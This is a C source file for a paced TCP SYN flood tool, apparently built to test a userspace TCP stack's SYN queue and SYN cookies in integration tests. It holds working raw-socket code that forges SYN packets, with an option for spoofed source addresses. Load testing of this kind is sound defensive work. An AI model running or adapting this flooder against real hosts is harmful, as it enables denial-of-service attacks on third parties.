/* syn_flood: a paced TCP SYN flood on a raw IPv4 socket, for the userspace TCP stack's SYN queue
 * and SYN cookies (dataplane/tcp.c; tests/integration/test_dpdk_synflood.sh).
 *
 * Usage: syn_flood --dst A.B.C.D --port P --rate N --duration-s D [--src-net A.B.C.D/LEN]
 *                  [--src A.B.C.D] [--seed S]
 *
 * Each SYN has a random source port (1024..65535), a random ISN and Linux's option set (MSS 1460,
 * SACK-permitted, timestamps, window scale 7), with correct IP and TCP checksums; built by hand
 * and sent on an AF_INET SOCK_RAW IPPROTO_RAW socket (IP_HDRINCL implied; send-only, so the
 * replies are never queued to us). N per second, sent in bursts every millisecond, for D seconds.
 *
 * Source addresses. Without --src-net the source is the host's own address towards --dst (or
 * --src). That flood defeats itself: the sender's kernel has no socket for the SYN-ACK and
 * answers it with RST, which frees the server's half-open slot at once. With --src-net each SYN
 * comes from a random host address of that subnet that is not configured here (the network and
 * broadcast addresses, --dst and every local address are skipped): a spoofed flood, the
 * realistic one. Why it needs no ARP help on the veth of the integration tests: linerate learns
 * an on-subnet neighbour from the Ethernet source of any IPv4 packet for it (dataplane/net.c), so
 * its SYN-ACKs go to this host's MAC, and this kernel, which does not forward (ip_forward 0),
 * drops a datagram for an address it does not own without an answer (counted in
 * InAddrErrors). The SYN-ACKs are thus unanswered, exactly as from a spoofed flood on the
 * Internet; no RST filter is needed.
 *
 * Needs CAP_NET_RAW. Prints one JSON line on stdout at the end (also on SIGINT/SIGTERM):
 *   {"sent":N,"send_errors":E,"seconds":X}
 * Exit status: 0 done, 2 usage or setup error. */
#include <arpa/inet.h>
#include <errno.h>
#include <ifaddrs.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "linerate/clock.h"

#define IP_HDR 20
#define TCP_HDR 20
#define TCP_OPTS 20 /* MSS 4, SACK-permitted 2, timestamps 10, NOP 1, window scale 3 */
#define PKT_LEN (IP_HDR + TCP_HDR + TCP_OPTS)
#define MAX_LOCAL 64

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
    (void)sig;
    stop = 1;
}

/* xorshift64*: enough for ports, ISNs and addresses. */
static uint64_t rng_state;
static uint32_t rnd32(void)
{
    rng_state ^= rng_state >> 12;
    rng_state ^= rng_state << 25;
    rng_state ^= rng_state >> 27;
    return (uint32_t)((rng_state * 0x2545F4914F6CDD1Dull) >> 32);
}

/* RFC 1071 sum over `n` bytes (n even here), added to `sum`, not folded. */
static uint32_t csum_add(uint32_t sum, const uint8_t *p, size_t n)
{
    for (size_t i = 0; i + 1 < n; i += 2)
        sum += (uint32_t)p[i] << 8 | p[i + 1];
    if (n & 1)
        sum += (uint32_t)p[n - 1] << 8;
    return sum;
}

static uint16_t csum_fold(uint32_t sum)
{
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

static void wr16(uint8_t *p, uint16_t v)
{
    p[0] = (uint8_t)(v >> 8);
    p[1] = (uint8_t)v;
}

static void wr32(uint8_t *p, uint32_t v)
{
    wr16(p, (uint16_t)(v >> 16));
    wr16(p + 2, (uint16_t)v);
}

/* One SYN from sip:sport to dip:dport (addresses and ports in host order). */
static void build_syn(uint8_t *pkt, uint32_t sip, uint16_t sport, uint32_t dip, uint16_t dport,
                      uint32_t isn, uint32_t tsval)
{
    uint8_t *ip = pkt, *th = pkt + IP_HDR, *o = th + TCP_HDR;
    memset(pkt, 0, PKT_LEN);
    ip[0] = 0x45;
    wr16(ip + 2, PKT_LEN);
    wr16(ip + 4, (uint16_t)rnd32());
    wr16(ip + 6, 0x4000); /* DF */
    ip[8] = 64;
    ip[9] = IPPROTO_TCP;
    wr32(ip + 12, sip);
    wr32(ip + 16, dip);
    wr16(ip + 10, csum_fold(csum_add(0, ip, IP_HDR)));

    wr16(th, sport);
    wr16(th + 2, dport);
    wr32(th + 4, isn);
    th[12] = (uint8_t)((TCP_HDR + TCP_OPTS) / 4) << 4;
    th[13] = 0x02; /* SYN */
    wr16(th + 14, 64240);
    o[0] = 2, o[1] = 4, wr16(o + 2, 1460);      /* MSS */
    o[4] = 4, o[5] = 2;                         /* SACK-permitted */
    o[6] = 8, o[7] = 10, wr32(o + 8, tsval);    /* timestamps (TSecr 0) */
    o[16] = 1, o[17] = 3, o[18] = 3, o[19] = 7; /* NOP, window scale 7 */
    uint8_t pseudo[12];
    memcpy(pseudo, ip + 12, 8);
    pseudo[8] = 0;
    pseudo[9] = IPPROTO_TCP;
    wr16(pseudo + 10, TCP_HDR + TCP_OPTS);
    uint32_t sum = csum_add(csum_add(0, pseudo, sizeof(pseudo)), th, TCP_HDR + TCP_OPTS);
    wr16(th + 16, csum_fold(sum));
}

static int parse_ip(const char *s, uint32_t *out)
{
    struct in_addr a;
    if (inet_pton(AF_INET, s, &a) != 1)
        return -EINVAL;
    *out = ntohl(a.s_addr);
    return 0;
}

static int parse_net(const char *s, uint32_t *net, uint32_t *mask)
{
    char buf[32];
    const char *slash = strchr(s, '/');
    if (!slash || (size_t)(slash - s) >= sizeof(buf))
        return -EINVAL;
    memcpy(buf, s, (size_t)(slash - s));
    buf[slash - s] = '\0';
    char *end;
    long len = strtol(slash + 1, &end, 10);
    if (*end || len < 1 || len > 30 || parse_ip(buf, net) < 0)
        return -EINVAL;
    *mask = ~0u << (32 - len);
    *net &= *mask;
    return 0;
}

/* The local address the kernel would use towards `dst`. */
static int route_src(uint32_t dst, uint32_t *src)
{
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (fd < 0)
        return -errno;
    struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(9) };
    sa.sin_addr.s_addr = htonl(dst);
    socklen_t sl = sizeof(sa);
    int rc = 0;
    if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 ||
        getsockname(fd, (struct sockaddr *)&sa, &sl) < 0)
        rc = -errno;
    else
        *src = ntohl(sa.sin_addr.s_addr);
    close(fd);
    return rc;
}

/* Every IPv4 address configured on this host (namespace); returns how many (at most `max`). */
static size_t local_addrs(uint32_t *out, size_t max)
{
    struct ifaddrs *ifa = NULL;
    size_t n = 0;
    if (getifaddrs(&ifa) < 0)
        return 0;
    for (struct ifaddrs *i = ifa; i && n < max; i = i->ifa_next)
        if (i->ifa_addr && i->ifa_addr->sa_family == AF_INET)
            out[n++] = ntohl(((struct sockaddr_in *)i->ifa_addr)->sin_addr.s_addr);
    freeifaddrs(ifa);
    return n;
}

/* A random host address of net/mask that is neither the network, the broadcast, `dst` nor one of
 * ours. -ENOENT when 1000 draws found none (a tiny subnet holding only those). */
static int pick_src(uint32_t net, uint32_t mask, uint32_t dst, const uint32_t *local,
                    size_t n_local, uint32_t *out)
{
    for (int tries = 0; tries < 1000; tries++) {
        uint32_t sip = net | (rnd32() & ~mask);
        bool ok = sip != net && sip != (net | ~mask) && sip != dst;
        for (size_t k = 0; ok && k < n_local; k++)
            ok = sip != local[k];
        if (ok) {
            *out = sip;
            return 0;
        }
    }
    return -ENOENT;
}

static void usage(const char *msg)
{
    fprintf(stderr,
            "syn_flood: %s\nusage: syn_flood --dst A.B.C.D --port P --rate N --duration-s D "
            "[--src-net A.B.C.D/LEN] [--src A.B.C.D] [--seed S]\n",
            msg);
    exit(2);
}

int main(int argc, char **argv)
{
    uint32_t dst = 0, src = 0, net = 0, mask = 0;
    long port = 0, rate = 0;
    double duration_s = 0;
    bool have_dst = false, have_src = false, spoof = false;
    uint64_t seed = 0;
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
        if (!v)
            usage("missing value");
        i++;
        if (!strcmp(a, "--dst")) {
            if (parse_ip(v, &dst) < 0)
                usage("bad --dst");
            have_dst = true;
        } else if (!strcmp(a, "--src")) {
            if (parse_ip(v, &src) < 0)
                usage("bad --src");
            have_src = true;
        } else if (!strcmp(a, "--src-net")) {
            if (parse_net(v, &net, &mask) < 0)
                usage("bad --src-net (A.B.C.D/1..30)");
            spoof = true;
        } else if (!strcmp(a, "--port")) {
            port = strtol(v, NULL, 10);
        } else if (!strcmp(a, "--rate")) {
            rate = strtol(v, NULL, 10);
        } else if (!strcmp(a, "--duration-s")) {
            duration_s = strtod(v, NULL);
        } else if (!strcmp(a, "--seed")) {
            seed = strtoull(v, NULL, 10);
        } else {
            usage("unknown option");
        }
    }
    if (!have_dst || port < 1 || port > 65535 || rate < 1 || rate > 10000000 || duration_s <= 0)
        usage("--dst, --port (1..65535), --rate (1..1e7) and --duration-s (> 0) are required");
    if (!spoof && !have_src && route_src(dst, &src) < 0)
        usage("no route to --dst");
    uint32_t local[MAX_LOCAL];
    size_t n_local = local_addrs(local, MAX_LOCAL);
    rng_state = seed ? seed : (lr_mono_ns() ^ (uint64_t)getpid() << 32) | 1;

    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) {
        fprintf(stderr, "syn_flood: raw socket: %s (needs CAP_NET_RAW)\n", strerror(errno));
        return 2;
    }
    int sndbuf = 4 << 20;
    (void)setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sndbuf, sizeof(sndbuf));
    struct sigaction sa = { .sa_handler = on_signal };
    sigaction(SIGINT, &sa, NULL);
    sigaction(SIGTERM, &sa, NULL);

    struct sockaddr_in to = { .sin_family = AF_INET };
    to.sin_addr.s_addr = htonl(dst);
    uint8_t pkt[PKT_LEN];
    uint64_t sent = 0, errors = 0;
    uint64_t t0 = lr_mono_ns(), end = t0 + (uint64_t)(duration_s * 1e9);
    while (!stop) {
        uint64_t t = lr_mono_ns();
        if (t >= end)
            break;
        uint64_t due = (uint64_t)((double)(t - t0) * (double)rate / 1e9) + 1;
        while (sent + errors < due && !stop) {
            uint32_t sip = src;
            if (spoof && pick_src(net, mask, dst, local, n_local, &sip) < 0) {
                fprintf(stderr, "syn_flood: --src-net has no address that is not ours\n");
                close(fd);
                return 2;
            }
            uint16_t sport = (uint16_t)(1024 + rnd32() % (65536 - 1024));
            build_syn(pkt, sip, sport, dst, (uint16_t)port, rnd32(), rnd32());
            if (sendto(fd, pkt, PKT_LEN, 0, (struct sockaddr *)&to, sizeof(to)) == PKT_LEN) {
                sent++;
            } else if (errno == ENOBUFS || errno == EAGAIN || errno == EINTR) {
                errors++; /* the queue is full: this one is lost, pacing goes on */
            } else {
                fprintf(stderr, "syn_flood: sendto: %s\n", strerror(errno));
                close(fd);
                return 2;
            }
        }
        struct timespec ms = { .tv_sec = 0, .tv_nsec = 1000000 };
        nanosleep(&ms, NULL);
    }
    double seconds = (double)(lr_mono_ns() - t0) / 1e9;
    printf("{\"sent\":%llu,\"send_errors\":%llu,\"seconds\":%.3f}\n", (unsigned long long)sent,
           (unsigned long long)errors, seconds);
    close(fd);
    return 0;
}
